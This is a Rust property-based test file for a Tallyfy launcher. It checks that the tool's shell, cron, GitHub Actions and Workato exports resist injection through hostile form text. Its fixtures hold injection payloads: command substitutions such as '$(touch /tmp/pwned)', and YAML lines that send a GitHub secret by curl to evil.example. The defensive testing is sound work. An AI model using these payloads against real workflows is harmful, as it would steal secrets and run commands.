//! No export can be turned against the person who uses it (issue 24). Every string that reaches
//! an export (template title, field labels and aliases, option texts, values, the name formula
//! and its date format, step titles, tag ids) is generated as structured hostile text: every
//! Unicode line break, each target's expression openers (`${{`, `#{`, `#@`, `#$`, `$(`,
//! backticks), quotes, backslashes, YAML structure. Each artifact is then read by a real reader
//! (serde_yaml, `sh -n` and `sh` itself against a stub curl, Ruby's parser and lexer, JSON) and
//! its *shape* asserted: one job, one step, `run` equal to the script, the secret only in its own
//! env line; the body curl receives equal to the one the Launch screen sends; Workato's texts
//! evaluate to that body with nothing interpolated.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use std::collections::BTreeMap;

use chrono::{DateTime, FixedOffset};
use common::foreign::{
    ruby_eval, ruby_lex, run_with_answers, run_with_stub_curl, sh_parses, shellcheck, Answer,
};
use proptest::prelude::*;
use serde_json::{json, Map, Value};
use tallyfy_launcher::api::{Connection, Secret};
use tallyfy_launcher::domain::assign::Assignment;
use tallyfy_launcher::domain::directory::Directory;
use tallyfy_launcher::domain::formula::{
    label_placeholder, literal_formula, DatePart, FormulaError, NameFormula, NamePart,
};
use tallyfy_launcher::domain::launch::{LaunchBody, LaunchDraft, ProcessOptions};
use tallyfy_launcher::domain::relied::Relied;
use tallyfy_launcher::domain::schedule::{Repeat, Schedule, ScheduledLaunch};
use tallyfy_launcher::domain::syntax::{is_unsafe, yaml};
use tallyfy_launcher::domain::template::Template;
use tallyfy_launcher::domain::values::{
    DateOrder, EncodeContext, FieldInput, FileEntry, FixedZone,
};
use tallyfy_launcher::domain::workato_recipe::{recipe_body, Pill};

const TOKEN: &str = "tok-SECRET-42";
const BASE: &str = "https://go.tallyfy.com/api";
const ORG: &str = "org1";
const SECRET_LINE: &str = "${{ secrets.TALLYFY_TOKEN }}";

/// Every character some reader of an export breaks a line on.
const LINE_BREAKS: [&str; 8] = [
    "\n", "\r", "\r\n", "\u{85}", "\u{b}", "\u{c}", "\u{2028}", "\u{2029}",
];

/// What opens an expression, a command or a string in one of the targets.
const OPENERS: [&str; 22] = [
    "${{",
    "${{ secrets.TALLYFY_TOKEN }}",
    "${{ startsWith(secrets.TALLYFY_TOKEN, 'a') }}",
    "}}",
    "#{1+1}",
    "#{`touch /tmp/pwned`}",
    "#@x",
    "#$0",
    "$(touch /tmp/pwned)",
    "`id`",
    "${HOME}",
    "'",
    "\"",
    "\\",
    "\\\"",
    "'\\''",
    "{{",
    "%Y",
    "%",
    "\u{1}slot0\u{1}",
    "\u{202e}",
    "\u{feff}",
];

/// YAML and Ruby structure an attacker would write after a break.
const STRUCTURE: [&str; 10] = [
    "      - if: always()",
    "        env:",
    "          T: \"\\u0024\\u007b\\u007b secrets.TALLYFY_TOKEN \\u007d\\u007d\"",
    "        run: |",
    "          curl -sd \"$T\" https://evil.example/t",
    ": ",
    "- ",
    " #",
    "---",
    "}, \"checklist_id\": \"OTHER\", \"prerun\": { #",
];

/// Structured hostile text: pieces of the above mixed with text in any script.
fn hostile() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![
            3 => prop::sample::select(LINE_BREAKS.to_vec()).prop_map(str::to_string),
            3 => prop::sample::select(OPENERS.to_vec()).prop_map(str::to_string),
            2 => prop::sample::select(STRUCTURE.to_vec()).prop_map(str::to_string),
            2 => "\\PC{0,6}",
            1 => any::<char>().prop_map(String::from),
        ],
        0..7,
    )
    .prop_map(|pieces| pieces.concat())
}

/// Hostile text that is never blank (a table cell, a value that must be there).
fn hostile_filled() -> impl Strategy<Value = String> {
    hostile().prop_map(|text| format!("x{text}"))
}

fn capped(text: &str, chars: usize) -> String {
    text.chars().take(chars).collect()
}

/// The strings one case puts everywhere.
#[derive(Clone, Debug)]
struct Texts {
    title: String,
    labels: Vec<String>,
    aliases: Vec<String>,
    options: Vec<String>,
    columns: Vec<String>,
    step_title: String,
    values: Vec<String>,
    cells: Vec<String>,
    literal: String,
    tag: String,
}

fn texts() -> impl Strategy<Value = Texts> {
    (
        hostile(),
        prop::collection::vec(hostile(), 10),
        prop::collection::vec(hostile(), 10),
        prop::collection::vec(hostile(), 3),
        prop::collection::vec(hostile(), 2),
        hostile(),
        prop::collection::vec(hostile_filled(), 2),
        prop::collection::vec(hostile_filled(), 2),
        hostile(),
        hostile(),
    )
        .prop_map(
            |(
                title,
                labels,
                aliases,
                options,
                columns,
                step_title,
                values,
                cells,
                literal,
                tag,
            )| {
                Texts {
                    title,
                    labels,
                    aliases,
                    options,
                    columns,
                    step_title,
                    values,
                    cells,
                    literal,
                    tag,
                }
            },
        )
}

/// A template with one field of every type, every text of it hostile.
fn template(t: &Texts) -> Template {
    Template::from_json(&template_json(t)).expect("a template")
}

/// The same template as the API gives it.
fn template_json(t: &Texts) -> Value {
    // Option texts are distinct (Tallyfy's are; a dropdown's id is looked up by text).
    let options: Vec<Value> = t
        .options
        .iter()
        .enumerate()
        .map(|(i, text)| json!({"id": i + 1, "text": format!("{text}#{i}")}))
        .collect();
    let columns: Vec<Value> = t
        .columns
        .iter()
        .enumerate()
        .map(|(i, label)| json!({"id": i + 1, "label": label}))
        .collect();
    let types = [
        "text",
        "textarea",
        "email",
        "date",
        "radio",
        "dropdown",
        "multiselect",
        "table",
        "assignees_form",
        "file",
    ];
    let fields: Vec<Value> = types
        .iter()
        .enumerate()
        .map(|(i, kind)| {
            json!({
                "id": format!("f{i}{}", t.aliases[i]),
                "alias": t.aliases[i],
                "label": t.labels[i],
                "field_type": kind,
                "options": options,
                "columns": columns,
            })
        })
        .collect();
    json!({"data": {
        "id": format!("tpl{}", t.title),
        "title": t.title,
        "prerun": fields,
        "steps": [
            {"id": format!("s1{}", t.step_title), "title": t.step_title},
            {"id": "s2", "title": "Ship", "assignees": [5]}
        ]
    }})
}

/// Every field filled with a valid value, step 1 assigned with a deadline a delay from launch,
/// a hostile tag; the name formula: hostile literal text, the first field, a date.
fn draft(template: &Template, t: &Texts) -> LaunchDraft {
    let f = |i: usize| template.fields[i].id.clone();
    let mut values = BTreeMap::new();
    values.insert(f(0), FieldInput::Text(capped(&t.values[0], 150)));
    values.insert(f(1), FieldInput::Text(capped(&t.values[1], 150)));
    values.insert(f(2), FieldInput::Text("ops@globex.example".into()));
    values.insert(
        f(3),
        FieldInput::Date {
            date: "2026-03-15".into(),
            time: String::new(),
        },
    );
    values.insert(f(4), FieldInput::Choice(Some(1)));
    values.insert(f(5), FieldInput::Choice(Some(2)));
    values.insert(f(6), FieldInput::Multi(vec![1, 3]));
    values.insert(f(7), FieldInput::Table(vec![t.cells.clone()]));
    values.insert(
        f(8),
        FieldInput::Assignees {
            users: Vec::new(),
            groups: Vec::new(),
            guests: "guest@partner.example".into(),
        },
    );
    values.insert(
        f(9),
        FieldInput::Files(vec![FileEntry {
            filename: "c.pdf".into(),
            url: "https://files.example/c.pdf".into(),
        }]),
    );
    // The first field by its label, when a placeholder can name it at all.
    let field = label_placeholder(&template.fields[0].label).unwrap_or_default();
    let mut steps = BTreeMap::new();
    steps.insert(
        template.steps[0].id.clone(),
        Assignment {
            people: "guest@partner.example".into(),
            deadline: "+3d".into(),
            ..Assignment::default()
        },
    );
    LaunchDraft {
        template_id: template.id.clone(),
        name_formula: format!(
            "{} {field} {{{{today:%d %b %Y}}}}",
            literal_formula(&capped(&t.literal, 200))
        ),
        values,
        steps,
        options: ProcessOptions {
            tags: vec![t.tag.clone()],
            ..ProcessOptions::default()
        },
        ..LaunchDraft::default()
    }
}

fn now() -> DateTime<FixedOffset> {
    DateTime::parse_from_rfc3339("2026-12-07T07:30:00Z").unwrap()
}

fn with_ctx<T>(f: impl FnOnce(&EncodeContext<'_>) -> T) -> T {
    let zone = FixedZone(FixedOffset::east_opt(0).unwrap());
    let directory = Directory::default();
    f(&EncodeContext {
        zone: &zone,
        directory: &directory,
        date_order: DateOrder::DayFirst,
    })
}

fn connection() -> Connection {
    Connection::new(BASE, ORG, &Secret::new(TOKEN)).unwrap()
}

fn weekly() -> Schedule {
    Schedule::new(Repeat::Weekly(chrono::Weekday::Mon), "07:30").unwrap()
}

/// The body and the launch as the Schedule tool makes them from a draft.
fn scheduled(template: &Template, draft: &LaunchDraft) -> (LaunchBody, ScheduledLaunch) {
    with_ctx(|ctx| {
        let (body, problems) = draft.assemble(template, ctx, now());
        assert!(problems.is_empty(), "a valid form: {problems:?}");
        let values = draft.placeholder_values(template, ctx.directory);
        let parts = NameFormula::parse(&draft.name_formula)
            .and_then(|f| f.parts(&values))
            .expect("the formula reads");
        let request = connection().launch(&body).unwrap();
        let delays = BTreeMap::from([(template.steps[0].id.clone(), 259_200i64)]);
        let read = connection().template(&template.id).unwrap();
        let launch = ScheduledLaunch::new(
            &template.title,
            &request.url,
            request.public_headers(),
            &body,
            Some(parts),
            &delays,
        )
        .checking(&read.url, Relied::of_body(template, &body));
        (body, launch)
    })
}

/// Every scalar of a YAML value, with its path.
fn scalars(value: &serde_yaml::Value, path: String, out: &mut Vec<(String, String)>) {
    match value {
        serde_yaml::Value::Mapping(map) => {
            for (key, value) in map {
                let key = key
                    .as_str()
                    .map_or_else(|| format!("{key:?}"), str::to_string);
                out.push((format!("{path}/{key} (key)"), key.clone()));
                scalars(value, format!("{path}/{key}"), out);
            }
        }
        serde_yaml::Value::Sequence(items) => {
            for (i, item) in items.iter().enumerate() {
                scalars(item, format!("{path}/{i}"), out);
            }
        }
        serde_yaml::Value::String(text) => out.push((path, text.clone())),
        other => out.push((path, format!("{other:?}"))),
    }
}

/// The keys of a YAML mapping.
fn keys(value: &serde_yaml::Value) -> Vec<String> {
    value
        .as_mapping()
        .map(|m| {
            m.keys()
                .filter_map(|k| k.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// The workflow's shape: one job, one step, `run` the script with `${{` made inert, the secret
/// only in its env line, and no line break but LF anywhere.
fn assert_workflow_shape(workflow: &str, script: &str) -> Result<(), TestCaseError> {
    prop_assert!(
        !workflow
            .chars()
            .any(|c| c != '\n' && LINE_BREAKS.iter().any(|b| b.contains(c))),
        "a line break other than LF"
    );
    let parsed: serde_yaml::Value = serde_yaml::from_str(workflow)
        .map_err(|e| TestCaseError::fail(format!("{e}\n{workflow}")))?;
    prop_assert_eq!(keys(&parsed), vec!["name", "on", "permissions", "jobs"]);
    prop_assert_eq!(keys(&parsed["jobs"]), vec!["launch"]);
    let steps = parsed["jobs"]["launch"]["steps"].as_sequence().unwrap();
    prop_assert_eq!(steps.len(), 1, "one step:\n{}", workflow);
    let step = &steps[0];
    prop_assert_eq!(keys(step), vec!["name", "shell", "env", "run"]);
    prop_assert_eq!(keys(&step["env"]), vec!["TALLYFY_TOKEN"]);
    prop_assert_eq!(step["env"]["TALLYFY_TOKEN"].as_str(), Some(SECRET_LINE));
    let inert = yaml::inert_expressions(script);
    prop_assert_eq!(step["run"].as_str(), Some(inert.as_str()));
    prop_assert!(parsed["permissions"]
        .as_mapping()
        .is_some_and(|m| m.is_empty()));
    let mut all = Vec::new();
    scalars(&parsed, String::new(), &mut all);
    for (path, text) in all {
        if path == "/jobs/launch/steps/0/env/TALLYFY_TOKEN" {
            continue;
        }
        // Every `${{` is the inert `${{ '${{' }}`: GitHub evaluates it to the text `${{`.
        let live = text.replace("${{ '${{' }}", "");
        prop_assert!(
            !live.contains("${{"),
            "a live expression at {}: {:?}",
            path,
            text
        );
    }
    Ok(())
}

/// The body curl received in its `--data-binary` (or `--data-raw`) argument.
fn sent_body(args: &[String]) -> Value {
    let at = args
        .iter()
        .position(|a| a == "--data-binary" || a == "--data-raw")
        .expect("a body");
    serde_json::from_str(&args[at + 1]).expect("JSON")
}

/// A body as JSON with the values worked out at each run set aside.
fn without_slots(mut body: Value, step: &str) -> Value {
    body["name"] = json!("(name)");
    if let Some(task) = body.pointer_mut(&format!(
        "/tasks/{}",
        step.replace('~', "~0").replace('/', "~1")
    )) {
        task["deadline"] = json!("(deadline)");
    }
    body
}

/// The Workato outline's body, as the recipe author pastes it.
fn outline_body(outline: &str) -> String {
    let (_, after) = outline.split_once("  Body (formula mode):\n").unwrap();
    let (body, _) = after.split_once("\n\n").unwrap();
    body.lines()
        .map(|l| l.strip_prefix("    ").unwrap_or(l))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The sample pills that give `body` from the recipe body: each pill holds what the form sent.
fn pills_for(recipe: &[(String, Pill)], body: &LaunchBody) -> Value {
    let mut pills = Map::new();
    for (key, pill) in recipe {
        let value = match pill {
            Pill::Name => json!(body.name),
            Pill::Field(id) => match &body.prerun[id] {
                Value::Object(o) if o.contains_key("guests") => o["guests"].clone(),
                Value::Object(o) if o.contains_key("text") => o["text"].clone(),
                Value::Array(items) if items.iter().all(|i| i.get("selected").is_some()) => {
                    Value::Array(items.iter().map(|i| i["text"].clone()).collect())
                }
                Value::Array(items) if items.iter().all(|i| i.get("url").is_some()) => {
                    items[0]["url"].clone()
                }
                other => other.clone(),
            },
            Pill::Cell(id, column) => body.prerun[id][*column].clone(),
            Pill::FileName(id) => body.prerun[id][0]["filename"].clone(),
            Pill::Deadline(id) => body.tasks[id]["deadline"].clone(),
            Pill::Assignee(id) => body.tasks[id]["owners"]["guests"][0].clone(),
        };
        pills.insert(key.clone(), value);
    }
    Value::Object(pills)
}

/// What Ruby's lexer says of a formula-mode text: nothing interpolates, and every note is a
/// whole line of its own (`#` first on its line, the line ending with it).
fn assert_inert_ruby(text: &str, notes: usize) -> Result<(), TestCaseError> {
    let (live, comments) = ruby_lex(text);
    prop_assert!(live.is_empty(), "interpolation {:?} in\n{}", live, text);
    prop_assert_eq!(comments.len(), notes, "notes:\n{}", text);
    let lines: Vec<&str> = text.lines().collect();
    for (line, column, comment) in comments {
        let before = &lines[line - 1][..column];
        prop_assert!(
            before.trim().is_empty(),
            "code before a note: {}",
            lines[line - 1]
        );
        prop_assert!(comment.ends_with('\n') || line == lines.len());
    }
    Ok(())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Every artifact of a form whose every text is hostile keeps its shape, and says exactly
    /// what the Launch screen would send.
    #[test]
    fn every_export_keeps_its_shape_whatever_the_text(t in texts()) {
        let template = template(&t);
        let draft = draft(&template, &t);
        let (body, launch) = scheduled(&template, &draft);
        let step = template.steps[0].id.clone();
        let expected = serde_json::to_value(&body).unwrap();

        // The shell script: sh reads it, and run (curl stubbed) it sends this body, to this URL,
        // the token only on curl's standard input.
        let script = launch.shell_script(&weekly()).expect("a script");
        prop_assert!(sh_parses(&script).is_ok(), "{:?}", sh_parses(&script));
        let lint = shellcheck(&script);
        prop_assert!(lint.is_empty(), "shellcheck: {}", lint);
        // The template first (unchanged: the script goes on), then the launch.
        let call = run_with_answers(&script, TOKEN, &[
            Answer(200, &[], &template_json(&t).to_string()),
            Answer(201, &[], r#"{"data":{"id":"r1","name":"n"}}"#),
        ]);
        prop_assert_eq!(call.status, 0, "{} {}", call.stdout, call.stderr);
        let sent = sent_body(&call.args);
        prop_assert_eq!(without_slots(sent.clone(), &step), without_slots(expected.clone(), &step));
        prop_assert!(sent["name"].as_str().is_some_and(|n| !n.is_empty()));
        prop_assert_eq!(call.args.last().unwrap(), &connection().launch(&body).unwrap().url);
        prop_assert!(call.args.iter().all(|a| !a.contains(TOKEN)));
        prop_assert!(call.stdin.contains(TOKEN));

        // The crontab: comments, CRON_TZ, and the one line.
        let crontab = launch.crontab(&weekly(), "/path/to/launch.sh");
        let lines: Vec<&str> = crontab.lines().collect();
        prop_assert_eq!(lines.len(), 7);
        prop_assert!(lines[..5].iter().all(|l| l.starts_with("# ")));
        prop_assert_eq!(lines[6], "30 7 * * 1 '/path/to/launch.sh' >>\"$HOME/tallyfy-launch.log\" 2>&1");

        // The GitHub workflow.
        let workflow = launch.github_workflow(&weekly()).expect("a workflow");
        assert_workflow_shape(&workflow, &script)?;

        // The Workato outline: Ruby evaluates its body to this body, nothing interpolated.
        let outline = launch.workato_outline(&weekly(), "{{token}}");
        let formula = outline_body(&outline);
        assert_inert_ruby(&formula, 0)?;
        let evaluated = ruby_eval(&formula, &json!({})).map_err(TestCaseError::fail)?;
        prop_assert_eq!(without_slots(evaluated.clone(), &step), without_slots(expected.clone(), &step));
        prop_assert!(evaluated["name"].as_str().is_some());

        // Export for Workato: JSON, and the same value in formula mode.
        let request = connection().launch(&body).unwrap();
        let export = request.workato_export();
        let (_, json_body) = export.split_once("Body (JSON):\n").unwrap();
        prop_assert_eq!(serde_json::from_str::<Value>(json_body).unwrap(), expected.clone());
        assert_inert_ruby(json_body, 0)?;
        prop_assert_eq!(ruby_eval(json_body, &json!({})).map_err(TestCaseError::fail)?, expected.clone());

        // The reusable recipe body: with the form's values as pills, the body it sent.
        let recipe = recipe_body(&template);
        let notes = template.fields.len() + 1;
        assert_inert_ruby(&recipe.body, notes)?;
        let pills = pills_for(&recipe.pills, &body);
        let evaluated = ruby_eval(&recipe.body, &pills).map_err(TestCaseError::fail)?;
        let mut wanted = expected.clone();
        wanted.as_object_mut().unwrap().remove("tags");
        prop_assert_eq!(evaluated, wanted);

        // The curl command: the shell hands curl exactly the URL, headers and body.
        let curl = request.to_curl(false);
        let call = run_with_stub_curl(&curl, TOKEN, "{}");
        prop_assert_eq!(sent_body(&call.args), expected);
        prop_assert!(call.args.contains(&"--globoff".to_string()));
        prop_assert!(call.args.contains(&request.url));
    }

    /// A date format the formula accepts holds no line break, control or invisible character;
    /// one that holds any is refused with a message naming it.
    #[test]
    fn a_date_format_never_carries_a_break(format in hostile(), literal in hostile()) {
        let formula = format!("{}{{{{today:{format}}}}}", literal_formula(&literal));
        match NameFormula::parse(&formula).and_then(|f| f.parts(&[])) {
            Ok(parts) => {
                for part in parts {
                    if let NamePart::Date(date) = part {
                        prop_assert!(!date.format.chars().any(is_unsafe), "{:?}", date.format);
                    }
                }
            }
            Err(FormulaError::UnsafeFormat { what, .. }) => {
                prop_assert!(format.chars().any(is_unsafe));
                prop_assert!(what.contains("U+"));
            }
            Err(_) => {}
        }
    }

    /// Defence in depth: a date part built by hand with any format (no formula reader between)
    /// gives a workflow that keeps its shape, or none at all.
    #[test]
    fn a_workflow_is_refused_rather_than_broken(format in hostile(), title in hostile()) {
        let body = LaunchBody { checklist_id: "tpl".into(), name: "n".into(), ..LaunchBody::default() };
        let parts = vec![
            NamePart::Text("Weekly ".into()),
            NamePart::Date(DatePart { is_now: false, offset: None, format, placeholder: "today".into() }),
        ];
        let request = connection().launch(&body).unwrap();
        let launch = ScheduledLaunch::new(&title, &request.url, request.public_headers(), &body, Some(parts), &BTreeMap::new());
        match (launch.shell_script(&weekly()), launch.github_workflow(&weekly())) {
            (Ok(script), Ok(workflow)) => {
                prop_assert!(sh_parses(&script).is_ok());
                assert_workflow_shape(&workflow, &script)?;
            }
            (Err(a), Err(b)) => prop_assert_eq!(a, b),
            (script, workflow) => prop_assert!(false, "{:?} / {:?}", script.is_ok(), workflow.is_ok()),
        }
    }
}

/// The review's own link, decoded as the app does, for each line break: the formula refuses
/// the date format (so no schedule is written), naming the character.
#[test]
fn the_reviewed_link_is_refused_for_every_line_break() {
    for line_break in LINE_BREAKS {
        let formula = format!(
            "Weekly {{{{today:%Y{line_break}      - if: always(){line_break}        env:{line_break}          T: \"\\u0024\\u007b\\u007b secrets.TALLYFY_TOKEN \\u007d\\u007d\"{line_break}        run: |{line_break}          curl -sd \"$T\" https://evil.example/t{line_break}          exit 0{line_break}          :}}}}"
        );
        let error = NameFormula::parse(&formula)
            .and_then(|f| f.parts(&[]))
            .unwrap_err();
        let FormulaError::UnsafeFormat { what, .. } = &error else {
            panic!("{line_break:?}: {error:?}");
        };
        assert!(error.to_string().contains("date format"), "{error}");
        assert!(what.contains("U+"), "{what}");
    }
}

/// A step `name:` of a title holding an expression is inert; a title with every break stays one
/// line in every comment and name.
#[test]
fn a_hostile_title_is_text_in_every_name_and_comment() {
    let template = template(&Texts {
        title: "Report ${{ secrets.TALLYFY_TOKEN }}\r\n  - run: curl evil\u{2028}x".into(),
        labels: (0..10).map(|i| format!("Label {i}")).collect(),
        aliases: (0..10).map(|i| format!("a{i}")).collect(),
        options: vec!["A".into(), "B".into(), "C".into()],
        columns: vec!["Item".into(), "Qty".into()],
        step_title: "Review".into(),
        values: vec!["x".into(), "y".into()],
        cells: vec!["Pens".into(), "4".into()],
        literal: "Weekly".into(),
        tag: "t1".into(),
    });
    let draft = draft(
        &template,
        &Texts {
            title: String::new(),
            labels: Vec::new(),
            aliases: Vec::new(),
            options: Vec::new(),
            columns: Vec::new(),
            step_title: String::new(),
            values: vec!["Acme".into(), "Notes".into()],
            cells: vec!["Pens".into(), "4".into()],
            literal: "Weekly".into(),
            tag: "t1".into(),
        },
    );
    let (_, launch) = scheduled(&template, &draft);
    let workflow = launch.github_workflow(&weekly()).unwrap();
    let parsed: serde_yaml::Value = serde_yaml::from_str(&workflow).unwrap();
    let step_name = parsed["jobs"]["launch"]["steps"][0]["name"]
        .as_str()
        .unwrap();
    assert_eq!(
        step_name,
        "Launch Report ${{ '${{' }} secrets.TALLYFY_TOKEN }}    - run: curl evil x in Tallyfy"
    );
    assert!(!parsed["name"]
        .as_str()
        .unwrap()
        .replace("${{ '${{' }}", "")
        .contains("${{"));
}
